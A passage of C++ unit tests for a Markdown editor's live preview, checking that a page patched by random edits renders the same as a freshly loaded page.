        return picturesHandled() ? evaluateText(*view, "document.body.dataset.ran || ''") : QStringLiteral("?");
    };
    // A key in each block first, while the page still nests each list as
    // its first text did: a key in an item changes only that item, where
    // the page holds it where the text says (an edit that reads the whole
    // part anew later would mend what it did wrong).
    ASSERT_TRUE(edit(1, QStringLiteral("x")));
    QStringList page = filledPageShapes(false), fresh = filledPageShapes(false, true);
    ASSERT_FALSE(page.isEmpty());
    EXPECT_TRUE(page == fresh) << firstDifference(page, fresh);
    // Then edits of any kind.
    ASSERT_TRUE(edit(2, QString()));
    page = filledPageShapes(false);
    ASSERT_FALSE(page.isEmpty());
    const QString ranInPage = ran();
    evaluate(*view, "delete document.body.dataset.ran");
    fresh = filledPageShapes(false, true);
    EXPECT_TRUE(page == fresh) << firstDifference(page, fresh);
    EXPECT_EQ(ranInPage, ran());
}

// Random edits at random times, in every shape but the HTML blocks (an edit
// there may leave an element open, see above), each sent as the bridge
// sends it, with the caret's anchor where the edit was: the page then holds
// what a fresh page of the last text holds, node for node. Once in a page
// short enough to be held whole and changed block by block, once in parts.
TEST_F(PreviewTest, APageChangedByRandomEditsHoldsWhatAFreshPageHolds) {
    bearMegabytes();
    prefs.insert(preview::SyncPreviewLocationWhileTyping, true);
    std::mt19937 random(11);
    const QString typed[] = {"x", " ", "\n", "\n\n", "|", "> ", "* ", "    ", "`", "$$", "[^note3]", ": ", "\n---\n"};
    for (const double scale : {0.1, 1.0}) {
        SCOPED_TRACE(scale);
        QString text = shaped::allShapes(scale);
        editor->setPlainText(text);
        view->updatePreview(renderedForPreview(text, 0));
        view->reloadPreview();
        view->thawAndReload();
        ASSERT_TRUE(waitUntil([&] { return !view->controller().isUpdating() && !view->isLoadingHtml(); }));
        ASSERT_EQ(view->controller().pageParts() != nullptr, scale == 1.0);
        PreviewHtml last;
        for (int round = 0; round < 24; round++) {
            const qsizetype boxes = text.indexOf(u"## Boxes"), math = text.indexOf(u"## Math");
            qsizetype at = qsizetype(random() % quint32(text.size()));
            if (at >= boxes && at < math)
                at = math;
            const qsizetype removed = random() % 3 == 0 ? qsizetype(random() % 40) : 0;
            if (removed && QStringView(text).mid(at, removed).contains(u'<'))
                continue;
            text.remove(at, removed);
            const QString insert = removed ? QString() : typed[random() % std::size(typed)];
            text.insert(at, insert);
            last = renderedForPreview(text, at + insert.size());
            view->updatePreview(last);
            // Now at once, after the page took it in, or in between.
            ASSERT_TRUE(goOnAtARandomMoment(random, 300));
        }
        ASSERT_TRUE(waitUntil([&] { return !view->controller().isUpdating() && !view->isLoadingHtml(); }));
        ASSERT_EQ(view->controller().baseSourceHTML(), last.html);
        const QStringList page = filledPageShapes(false), fresh = wholePageShapes(last.html, false);
        ASSERT_FALSE(page.isEmpty());
        EXPECT_TRUE(page == fresh) << firstDifference(page, fresh);
    }
}
